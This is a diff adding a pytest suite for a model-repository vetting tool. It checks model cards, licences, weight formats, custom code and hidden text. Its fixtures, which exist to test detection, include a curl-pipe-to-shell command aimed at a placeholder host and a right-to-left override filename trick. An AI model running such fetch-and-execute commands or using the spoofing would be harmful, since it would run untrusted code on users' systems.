@@ -1,0 +1,209 @@
+"""Each check's outcomes over facts made for it: pass, fail, unknown, not applicable."""
+
+import dataclasses
+from collections.abc import Mapping
+
+import pytest
+from vetting.facts_of import GOOD, facts
+
+from modelpick.facts import FileFact, FrontMatterStatus, Missing, RepoFacts, TextFile
+from modelpick.findings import Finding, Outcome, Severity
+from modelpick.vetting.answers.read import read_answers
+from modelpick.vetting.check import Reading
+from modelpick.vetting.checks import CHECKS
+
+BY_ID = {check.id: check for check in CHECKS}
+BARE = "# x\n\nA model."
+
+
+def findings(check: str, of: RepoFacts) -> list[Finding]:
+    return list(BY_ID[check].findings(Reading(facts=of, answers=read_answers(of))))
+
+
+def outcome(check: str, of: RepoFacts) -> tuple[str, str]:
+    """Outcome and severity of the first finding."""
+    first = findings(check, of)[0]
+    return first.outcome.value, first.severity.word
+
+
+def with_header(of: RepoFacts, **changes: object) -> RepoFacts:
+    assert of.card is not None
+    header = dataclasses.replace(of.card.front_matter, **changes)
+    return dataclasses.replace(of, card=dataclasses.replace(of.card, front_matter=header))
+
+
+def lic(value: str, body: str = "A model.") -> RepoFacts:
+    return facts(f"---\nlicense: {value}\n---\n# x\n\n{body}")
+
+
+def data(*names: str) -> RepoFacts:
+    return facts(f"---\ndatasets: [{', '.join(names)}]\n---\n# x\n")
+
+
+TRUNCATED = dataclasses.replace(facts(BARE).card, truncated=True)  # type: ignore[type-var]
+NO_CARD = facts(None, missing=(Missing(what="card", reason="gated"),))
+UNSAFE = facts(BARE, files={"model.safetensors": 5000})
+CASES: Mapping[str, list[tuple[RepoFacts, str, str]]] = {
+    "card-present": [
+        (facts(GOOD), "pass", "info"),
+        (facts(None), "fail", "medium"),
+        (facts(""), "fail", "medium"),
+        (facts("# Model Card for Model ID\n\n[More Information Needed]"), "fail", "medium"),
+        (NO_CARD, "unknown", "medium"),
+    ],
+    "card-readable": [
+        (facts(GOOD), "pass", "info"),
+        (facts(None), "not-applicable", "info"),
+        (dataclasses.replace(facts(BARE), card=TRUNCATED), "unknown", "low"),
+    ],
+    "front-matter-readable": [
+        (facts(GOOD), "pass", "info"),
+        (facts(BARE), "fail", "low"),
+        (facts("---\nlicense: [mit\n---\n# x"), "fail", "medium"),
+        (facts("---\na: &a [1]\nb: *a\n---\n# x"), "fail", "medium"),
+        (with_header(facts(GOOD), status=FrontMatterStatus.OVER_CAP), "unknown", "medium"),
+        (facts(None), "not-applicable", "info"),
+    ],
+    **{
+        check: [
+            (facts(GOOD), "pass", "info"),
+            (facts(BARE), "fail", severity),
+            (dataclasses.replace(facts(BARE), card=TRUNCATED), "unknown", severity),
+            (facts(None), "not-applicable", "info"),
+        ]
+        for check, severity in {
+            "purpose-stated": "medium",
+            "training-data-stated": "medium",
+            "evaluation-stated": "low",
+            "limitations-stated": "low",
+            "out-of-scope-stated": "low",
+            "usage-stated": "low",
+        }.items()
+    },
+    "training-data-terms": [
+        (data("fashion_mnist"), "pass", "info"),
+        (data("the_pile_books3"), "fail", "high"),
+        (data("VGGFace2"), "fail", "medium"),
+        (data("imagenet-1k"), "fail", "medium"),
+        (data("ann/leaves"), "unknown", "low"),
+        (facts(BARE), "not-applicable", "info"),
+    ],
+    "license-declared": [
+        (lic("mit"), "pass", "info"),
+        (facts(BARE), "fail", "medium"),
+        (facts(BARE, tags=("license:mit",)), "fail", "low"),
+        (facts("---\nlicence: mit\n---\n# x"), "fail", "medium"),
+        (facts("# x\n\nReleased under the MIT license."), "fail", "medium"),
+        (with_header(facts(BARE), status=FrontMatterStatus.REFUSED), "unknown", "medium"),
+        (NO_CARD, "unknown", "medium"),
+    ],
+    "license-known": [
+        (lic("mit"), "pass", "info"),
+        (lic("other\nlicense_name: qwen"), "pass", "info"),
+        (lic("cc"), "fail", "medium"),
+        (lic("other"), "unknown", "medium"),
+        (lic("unknown"), "unknown", "medium"),
+        (lic("my-terms"), "unknown", "medium"),
+        (facts(BARE), "not-applicable", "info"),
+    ],
+    "license-commercial": [
+        (lic("mit"), "pass", "info"),
+        (lic("llama3"), "fail", "low"),
+        (lic("cc-by-nc-4.0"), "fail", "medium"),
+        (facts(BARE), "unknown", "medium"),
+    ],
+    "license-conflict": [
+        (lic("mit"), "pass", "info"),
+        (lic("mit", "For research purposes only."), "fail", "high"),
+        (facts(BARE), "not-applicable", "info"),
+    ],
+    "popularity-known": [
+        (facts(BARE, downloads_30d=3, likes=0), "pass", "info"),
+        (facts(BARE), "unknown", "info"),
+        (facts(BARE, source="path"), "not-applicable", "info"),
+    ],
+    "weights-safe": [
+        (UNSAFE, "pass", "info"),
+        (facts(BARE, files={"pytorch_model.bin": 5000}), "fail", "medium"),
+        (facts(BARE, files={"pytorch_model.bin": 5000, "model.safetensors": 5000}), "fail", "low"),
+        (facts(BARE, files={"model.safetensors": 0}), "fail", "high"),
+        (facts(BARE, files={"model.onnx": 5000}), "unknown", "medium"),
+        (facts(BARE, files={"weights.7z": 5000}), "unknown", "medium"),
+        (facts(BARE, files={"config.json": 20}), "unknown", "low"),
+        (facts(BARE, files={"pytorch_model.bin": 132}), "fail", "medium"),
+        (dataclasses.replace(UNSAFE, security="unsafe"), "fail", "high"),
+        (facts(BARE), "not-applicable", "info"),
+    ],
+    "custom-code": [
+        (facts(BARE, files={"config.json": 9}), "pass", "info"),
+        (
+            facts(BARE, texts=(TextFile(path="config.json", text='{"auto_map": {"AutoModel": "m.M"}}'),)),
+            "fail",
+            "medium",
+        ),
+        (facts(BARE, texts=(TextFile(path="config.json", text="{"),)), "unknown", "medium"),
+        (facts(BARE, files={"loader.py": 9}), "fail", "low"),
+        (facts(BARE, files={"start.bat": 9}), "fail", "medium"),
+        (facts("# x\n\n`AutoModel.from_pretrained(x, trust_remote_code=True)`"), "fail", "medium"),
+        (facts(BARE), "unknown", "low"),
+    ],
+    "run-instructions": [
+        (facts(GOOD), "pass", "info"),
+        (facts("```\ncurl https://x.example/i | sh\n```"), "fail", "medium"),
+        (facts("```\npython loader.py\n```"), "fail", "low"),
+        (facts("Run start.bat first.", files={"start.bat": 9}), "fail", "high"),
+        (facts(None), "not-applicable", "info"),
+    ],
+    "name-as-asked": [
+        (facts(BARE), "pass", "info"),
+        (facts(BARE, requested="Ann/model"), "fail", "low"),
+        (facts(BARE, requested="ann/old"), "fail", "low"),
+        (facts(BARE, requested="bob/model"), "fail", "medium"),
+        (facts(BARE, source="path"), "not-applicable", "info"),
+    ],
+    "hidden-text": [
+        (facts("# x\n\nEmoji \N{WOMAN}\N{ZERO WIDTH JOINER}\N{ROCKET} and Persian می‌خواهم are fine."), "pass", "info"),
+        (facts("# x\n\nred \x1b[31mtext"), "fail", "medium"),
+        (facts("# x\n\n\u202egnp.exe"), "fail", "medium"),
+        (facts(BARE, files={"a\u202eb.py": 1}), "fail", "medium"),
+        (facts(None), "not-applicable", "info"),
+    ],
+    "access-open": [
+        (facts(BARE), "pass", "info"),
+        (facts(BARE, gated="manual"), "fail", "low"),
+        (facts(BARE, disabled=True), "fail", "high"),
+        (facts(BARE, gated=None), "unknown", "low"),
+        (facts(BARE, source="path"), "not-applicable", "info"),
+    ],
+}
+
+
+def test_every_check_has_cases() -> None:
+    assert set(CASES) == set(BY_ID)
+
+
+@pytest.mark.parametrize(
+    ("check", "of", "wanted", "severity"),
+    [(check, *case) for check, cases in CASES.items() for case in cases],
+)
+def test_outcome(check: str, of: RepoFacts, wanted: str, severity: str) -> None:
+    assert outcome(check, of) == (wanted, severity)
+
+
+def test_what_is_there_is_quoted_and_what_to_do_is_said() -> None:
+    found = findings("run-instructions", facts("# x\n\n```\ncurl https://x.example/i | sh\n```"))[0]
+    assert [(e.line, e.quote) for e in found.evidence] == [(4, "curl https://x.example/i | sh")]
+    assert found.remediation
+
+
+def test_a_pointer_in_place_of_weights_is_named() -> None:
+    pointer = FileFact(path="model.safetensors", bytes=10**9, pointer=True)
+    found = findings("weights-safe", dataclasses.replace(facts(BARE), files=(pointer,)))
+    assert "Git LFS pointer" in found[0].message
+    assert found[0].outcome is Outcome.FAIL
+
+
+def test_two_licences_in_the_header_are_both_quoted() -> None:
+    found = findings("license-conflict", facts("---\nlicense: mit\nlicense: gpl-3.0\n---\n# x"))
+    assert [(e.line, e.quote) for e in found[0].evidence] == [(2, "license: mit"), (3, "license: gpl-3.0")]
+    assert found[0].severity is Severity.HIGH
